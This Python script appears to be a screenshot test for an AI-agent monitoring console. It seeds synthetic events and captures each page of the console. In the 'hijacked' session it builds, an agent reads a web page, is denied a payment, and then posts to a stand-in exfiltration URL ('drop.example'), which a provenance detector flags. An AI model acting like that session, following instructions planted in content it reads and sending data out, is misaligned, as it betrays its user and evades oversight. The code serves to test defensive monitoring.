"""Screenshots of a seeded console: ``python -m tests.browser.screenshots FOLDER``.

``queue.png`` is the queue with an alert open beside it; the other files show the pages one by one.
"""

from __future__ import annotations

import sys
import tempfile
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pyarrow as pa
from playwright.sync_api import expect

from monitor.events import arrow_batch
from monitor.inventory import Declaration, Inventory
from monitor.store.clickhouse import EventStore, placed
from tests.browser.chromium import Visit, chromium, serving, visiting
from tests.builders import event
from tests.web.fleet import fleet
from tests.web.seeding import Stand, console, finding, open_store, seed

TITLE = "Tool ran although it had been denied"


STOLEN = "https://drop.example/x1"

STEPS: tuple[tuple[str, dict[str, Any]], ...] = (
    ("read_inbox", {"outcome": "success"}),
    ("get_invoice", {"outcome": "success"}),
    ("search_web", {"outcome": "success"}),
    ("read_page", {"outcome": "success"}),
    ("get_order", {"outcome": "failure"}),
    ("get_order", {"outcome": "success"}),
    ("send_payment", {"outcome": "blocked", "policy_id": "payments-over-10k", "policy_decision": "deny"}),
    ("post_webhook", {"outcome": "success"}),
    ("book_invoice", {"outcome": "success"}),
)


def hijacked(stand: Stand, store: EventStore) -> None:
    """A session that a page it read has turned, and the alert about it."""
    begun = datetime.now(UTC) - timedelta(minutes=20)
    name, agent = "research-77", "research-agent"
    common = {"session_id": name, "agent_id": agent, "model_id": "large-2026-02", "policy_version": "p7"}
    told = [
        event(
            "task.created", timestamp=begun, event_id=f"{name}-t", task_goal="Book invoice INV-7.", **common
        )
    ]
    for number, (tool, ends) in enumerate(STEPS):
        call = {**common, "tool_name": tool, "tool_call_id": f"c{number}"}
        at = begun + timedelta(seconds=5 * number + 1)
        args = f'{{"url": "{STOLEN}"}}' if tool == "post_webhook" else None
        told.append(
            event("tool.requested", timestamp=at, event_id=f"{name}-{number}-r", tool_args=args, **call)
        )
        if tool == "get_invoice":
            review = {"reviewer_id": "bea", "review_decision": "approve"}
            at += timedelta(seconds=1)
            told.append(
                event("human.reviewed", timestamp=at, event_id=f"{name}-{number}-h", **review, **call)
            )
        kind = "policy.checked" if ends["outcome"] == "blocked" else "tool.executed"
        at += timedelta(seconds=2)
        told.append(event(kind, timestamp=at, event_id=f"{name}-{number}-e", **ends, **call))
    store.insert(placed(pa.Table.from_batches([arrow_batch(told)]), 7), token="hijacked")
    stand.file(
        finding(
            "flow",
            session_id=name,
            event_ids=(f"{name}-7-r",),
            level="high",
            detector="provenance",
            rule_id="learned.provenance",
            title="Argument from an unusual source",
            reason=f"post_webhook url “{STOLEN}” comes from the text of a result of read_page: seen 0 times "
            "in 214 such values, never used there before; 19.2 bits, its usual worst call is 3.1 bits",
            evidence={
                "observed": {
                    "tool": "post_webhook",
                    "values": [{"argument": "url", "value": STOLEN, "source_tool": "read_page"}],
                },
                "p_value": 0.001,
            },
        )
    )
    said = Declaration("research team", "reads, sums up, books", "high", ("read_inbox", "get_invoice"))
    Inventory(stand.state).declare("default", agent, said, "bea")


def pages(visit: Visit, folder: Path, suffix: str) -> None:
    """One picture of each page in the visit's theme."""

    def shot(name: str, full: bool = False) -> None:
        visit.page.wait_for_timeout(300)
        visit.page.screenshot(path=folder / f"{name}{suffix}.png", full_page=full)

    shot("alerts")
    visit.page.locator("table.alerts").get_by_role("link", name=TITLE).click()
    visit.page.locator("#drawer article").wait_for()
    shot("queue")
    visit.page.get_by_role("link", name="Full page").click()
    visit.page.locator("main.single").wait_for()
    shot("alert", full=True)
    for name, path in (
        ("status", "/status"),
        ("session", "/sessions/research-77"),
        ("agents", "/agents"),
        ("agent", "/agents/research-agent"),
        ("rules", "/rules"),
    ):
        visit.page.goto(f"{visit.url}{path}")
        shot(name, full=name != "rules")
    visit.page.goto(f"{visit.url}/incidents")
    shot("incidents")
    visit.page.get_by_role("link", name=TITLE).first.click()
    visit.page.locator(".chronicle").wait_for()
    shot("incident", full=True)
    visit.page.goto(f"{visit.url}/dashboards/fleet-overview")
    expect(visit.page.locator("[data-drawn]")).to_have_count(5)
    shot("dashboard", full=True)


def main(folder: Path) -> None:
    """Take them all."""
    folder.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory() as data:
        store = open_store(Path(data) / "store")
        with console(Path(data) / "console", store) as stand, chromium() as browser:
            seed(stand, store)
            hijacked(stand, store)
            fleet(store)
            with serving(stand.app) as url:
                for dark in (False, True):
                    with visiting(browser, url, stand, dark=dark) as visit:
                        pages(visit, folder, "-dark" if dark else "")
                with visiting(browser, url, stand, width=400, height=860) as visit:
                    pages(visit, folder, "-phone")
        store.close()


if __name__ == "__main__":
    main(Path(sys.argv[1]))
